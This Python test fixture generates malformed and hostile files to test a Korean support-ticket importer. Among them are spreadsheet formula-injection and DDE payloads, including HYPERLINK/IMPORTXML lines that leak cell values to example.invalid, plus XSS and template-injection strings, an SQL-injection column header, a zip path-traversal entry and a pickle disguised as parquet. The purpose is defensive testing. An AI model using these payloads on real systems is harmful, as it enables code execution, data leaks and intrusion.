"""The hostile and odd files of `bad_files.csv`, made here so that the tests need no file from elsewhere."""

from __future__ import annotations

import datetime as dt
import io
import json
import pickle
import struct
import unicodedata
import zipfile
from collections.abc import Callable

import xlsxwriter

HEADER = ["ticket_id", "created_at", "resolved_at", "channel", "category", "status", "csat", "account", "body"]
ROWS = [
    [
        "T-1",
        "2026-11-02 09:10:00",
        "2026-11-02 11:40:00",
        "chat",
        "결제",
        "closed",
        "5",
        "가온학원",
        "결제 영수증, 재발행 요청",
    ],
    [
        "T-2",
        "2026-11-02 10:00:00",
        "2026-11-03 09:00:00",
        "phone",
        "로그인",
        "closed",
        "2",
        "나래교육",
        "로그인이 계속 안 됩니다",
    ],
    ["T-3", "2026-11-03 14:30:00", "", "email", "기능요청", "open", "", "다솜에듀", "문제지 정렬 기능\n추가해 주세요"],
]
MAKERS: dict[str, Callable[[], bytes]] = {}


def bad_file(name):
    """Register the maker of one file."""

    def register(maker):
        MAKERS[name] = maker
        return maker

    return register


def table(rows, delimiter=",", header=HEADER):
    """Delimited text with quotation marks only where they are needed."""
    special = (delimiter, '"', "\n")

    def cell(value):
        return '"' + value.replace('"', '""') + '"' if any(sign in value for sign in special) else value

    return "".join(delimiter.join(map(cell, row)) + "\n" for row in [header, *rows])


MAKERS |= {
    "enc_01_empty.csv": lambda: b"",
    "enc_02_header_only.csv": lambda: table([]).encode(),
    "enc_04_utf8.csv": lambda: table(ROWS).encode(),
    "enc_05_utf8_bom.csv": lambda: table(ROWS).encode("utf-8-sig"),
    "enc_07_utf16be_bom.csv": lambda: b"\xfe\xff" + table(ROWS).encode("utf-16-be"),
    "enc_08_utf16le_nobom.csv": lambda: table(ROWS).encode("utf-16-le"),
    "enc_10_cp949.csv": lambda: table(ROWS).encode("cp949"),
    "enc_11_cp949_extended.csv": lambda: table([[*ROWS[0][:8], "똠방각하 펲시콜라 쑗"]]).encode("cp949"),
    "enc_14_mojibake.csv": lambda: table(ROWS).encode().decode("latin-1").encode(),
    "enc_17_cr_only.csv": lambda: table(ROWS[:2]).replace("\n", "\r").encode(),
    "csv_01_semicolon.csv": lambda: table(ROWS, ";").encode(),
    "csv_02_tabs_in_csv.csv": lambda: table(ROWS, "\t").encode(),
    "csv_08_blank_headers.csv": lambda: b"ticket_id,created_at,,,body\n1,2026-11-01,a,b,c\n",
    "csv_11_no_newline_20mb_like.csv": lambda: b"," * 200_000,
    "csv_14_excel_ids.csv": lambda: (
        b"Id,Requester id,Created at,Status\n297732,1.03006E+13,08-04-2023 20:52,Solved\n"
        b"311457,1.03006E+13,24-04-2023 19:32,Closed\n"
    ),
}


@bad_file("enc_13_mixed_utf8_cp949.csv")
def mixed_encodings():
    lines = table([*ROWS[:2], ["T-4", "2026-11-04 09:00:00", "", "chat", "결제", "open", "", "A", "ok"]]).split("\n")
    return b"\n".join(line.encode("cp949" if index == 2 else "utf-8") for index, line in enumerate(lines))


@bad_file("enc_16_nfd_hangul.csv")
def decomposed_hangul():
    row = ["T-2", "2026-11-02 09:20:00", "", "chat", unicodedata.normalize("NFD", "결제"), "open", "", "A", "나"]
    return table([["T-1", "2026-11-02 09:10:00", "", "chat", "결제", "open", "", "A", "가"], row]).encode()


@bad_file("csv_16_numbers_with_units.csv")
def numbers_with_units():
    return (
        'ticket_id,created_at,first_response,handle_time,amount\n1,2026-11-01,"1,234",0h 5m 10s,"₩1,200,000"\n'
        "2,2026-11-01,12분,01:02:03,120만원\n3,2026-11-01,-,0h 0m 0s,1.2e6\n"
    ).encode()


@bad_file("csv_04_preamble_footer.csv")
def title_and_total():
    return ("보고 기간 2026-11-01 - 2026-11-30\n\n" + table(ROWS) + "합계,,,,,,3.5,,\n").encode()


@bad_file("csv_05_unclosed_quote.csv")
def unclosed_quote():
    rows = [f"T-{n},2026-11-03 10:00:00,,chat,x,open,,C,정상 {n}\n" for n in range(3, 53)]
    broken = 'T-2,2026-11-02 10:00:00,,chat,로그인,open,,B,"닫히지 않은 따옴표\n'
    return (table(ROWS[:1]) + broken + "".join(rows)).encode()


@bad_file("csv_07_dup_headers.csv")
def duplicate_headers():
    return "id,created_at,상태,상태,내용\n1,2026-11-01,open,closed,a\n2,2026-11-02,open,open,b\n".encode()


@bad_file("csv_10_10mb_cell.csv.gz")
def huge_cell():
    rows = [[*ROWS[0][:8], "가" * 3_500_000], ["T-2", "2026-11-02 10:00:00", "", "chat", "x", "open", "", "B", "ok"]]
    return table(rows).encode()


@bad_file("csv_13_double_encoded.csv")
def double_encoded():
    return (
        "id,title,body,created_at;;;;\n"
        '"1,첫 이슈,""본문, 쉼표"",2026-11-01T00:00:00Z";;;;\n"2,둘째,""b"",2026-11-02T00:00:00Z";;;;\n'
    ).encode()


FORMULAS = [
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"클릭")', '=IMPORTXML(CONCAT("http://example.invalid/?v=",A2),"//a")',
    "\t=1+1", "\r=1+1", "＝1+1", '"=1+1"', "'=1+1", ";=1+1", "%0A=1+1", "-환불 안 돼요", "+82 2 1234 5678",
    "@담당자 확인 바람", "=^^= 고마워요", 'DDE ("cmd";"/C calc";"x")',
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">결제</a>', "[링크](javascript:alert(1))", "![x](http://example.invalid/track.png)",
    "</style><script>alert(1)</script>", "{{7*7}} ${7*7} <%= 7*7 %>", "<iframe src=//example.invalid>",
    "&lt;b&gt;이미 이스케이프&lt;/b&gt;", "<b onmouseover=alert(1)>굵게", "`code` **굵게** # 제목", "| a | b |\n|---|---|",
    "$x^2$ :red[빨강] :material/home: :streamlit:", "<!-- 주석 --><style>body{display:none}</style>",
]  # fmt: skip


@bad_file("text_01_formula_injection.csv")
def formulas():
    lines = ['"ticket_id","created_at","category","body"\n']
    for number, text in enumerate(FORMULAS, 1):
        quoted = '"' + text.replace('"', '""') + '"'
        lines.append(f'"T-{number}","2026-11-01 09:00:00",{quoted},{quoted}\n')
    return "".join(lines).encode()


@bad_file("text_02_html_markdown.csv")
def markup():
    rows = [[f"T-{number}", "2026-11-01 09:00:00", text, text, text] for number, text in enumerate(MARKUP, 1)]
    return table(rows, header=["ticket_id", "created_at", "category", "account", "body"]).encode()


@bad_file("text_04_control_chars.csv")
def control_signs():
    return table(
        [
            ["T-1", "2026-11-02 09:10:00", "", "chat", "x", "open", "", "A", "\x01\x02\x07\x1b[31m빨강\x1b[0m\x7f"],
            ROWS[1],
        ]
    ).encode()


@bad_file("text_07_one_text_repeated.csv")
def one_text():
    return table(
        [[f"T-{n}", "2026-11-02 09:10:00", "", "chat", "x", "open", "", "A", "로그인이 안 돼요"] for n in range(300)]
    ).encode()


@bad_file("text_08_5000_categories.csv")
def many_categories():
    rows = [
        [f"T-{n}", "2026-11-02 09:10:00", "", "chat", f"유형{n}", "open", "", f"고객{n}", "문의"] for n in range(5000)
    ]
    return table(rows).encode()


@bad_file("name_01_sql_columns.csv")
def sql_columns():
    names = (
        'ticket_id,created_at,"x""; DROP TABLE tickets; --",select,a b,상태,1e5,COUNT(*),"""quoted""","col\nnewline"\n'
    )
    return (names + "T-1,2026-11-01,a,b,c,d,e,f,g,h\n").encode()


@bad_file("name_08_formula_headers.csv")
def formula_columns():
    return "ticket_id,created_at,=1+1,@SUM(A1),-위험\n1,2026-11-01,a,b,c\n".encode()


@bad_file("json_07_lone_surrogate.json")
def lone_surrogate():
    return '[{"ticket_id":"T-1","created_at":"2026-11-01","body":"\\ud83d 깨진 이모지"}]'.encode()


@bad_file("type_01_json_named.csv")
def json_named_csv():
    return json.dumps([{"ticket_id": "T-1", "created_at": "2026-11-01T00:00:00+09:00", "body": "a"}]).encode()


@bad_file("type_04_html_named.xls")
def html_table():
    return (
        '<html><head><meta charset="utf-8"></head><body><table><tr><th>접수번호</th><th>접수일시</th><th>내용</th></tr>'
        "<tr><td>1</td><td>2026-11-01 09:00</td><td>환불 &lt;문의&gt;</td></tr></table>"
        "<script>alert(1)</script></body></html>"
    ).encode()


@bad_file("type_05_png_named.csv")
def picture():
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(2000)


@bad_file("type_07_pickle_named.parquet")
def pickled():
    return pickle.dumps(dt.date(2026, 11, 1), protocol=4)


@bad_file("type_08_zip_of_csv.zip")
def zip_slip():
    return zipped({"../../evil.csv": table(ROWS).encode(), "tickets.csv": table(ROWS).encode()})


MAKERS |= {
    "json_01_deep.json": lambda: b"[" * 100_000 + b"]" * 100_000,
    "json_04_trailing_comma.json": lambda: b'[{"ticket_id":"T-1","created_at":"2026-11-01"},]',
    "json_02_ndjson_broken_line.jsonl": lambda: (
        b'{"ticket_id":"T-1","created_at":"2026-11-01T09:00:00+09:00","body":"a"}\n'
        b'{"ticket_id":"T-2","created_at":"2026-11-01T10:00\n'
        b'{"ticket_id":"T-3","created_at":"2026-11-01T11:00:00Z","body":"c"}\n'
    ),
    "json_05_nan_bigint.jsonl": lambda: (
        b'{"ticket_id":9007199254740993,"created_at":"2026-11-01","csat":NaN}\n'
        b'{"ticket_id":9007199254740992,"created_at":"2026-11-01","csat":1e999}\n'
    ),
    "json_08_mixed_types.jsonl": lambda: (
        b'{"ticket_id":"T-1","created_at":1793491200,"csat":"5"}\n'
        b'{"ticket_id":2,"created_at":"2026-11-01T00:00:00Z","csat":5}\n'
        b'{"ticket_id":["x"],"created_at":{"a":1},"csat":null}\n'
    ),
}


def zipped(parts):
    """A zip archive of `parts`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def workbook(fill=None, **options):
    """An xlsx file: `fill(workbook, sheet)` writes it, by default the header and two rows with true dates."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, **options})
    (fill or plain_sheet)(book, book.add_worksheet("tickets"))
    book.close()
    return out.getvalue()


def plain_sheet(book, sheet, first_row=0, rows=None):
    """The usual table, times as date cells and scores as numbers."""
    moment = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    sheet.write_row(first_row, 0, HEADER)
    for line, row in enumerate(rows or ROWS[:2], first_row + 1):
        for column, value in enumerate(row):
            if column in (1, 2) and value:
                sheet.write_datetime(line, column, dt.datetime.fromisoformat(value), moment)
            elif column == 6 and value:
                sheet.write_number(line, column, float(value))
            elif value:
                sheet.write_string(line, column, value)
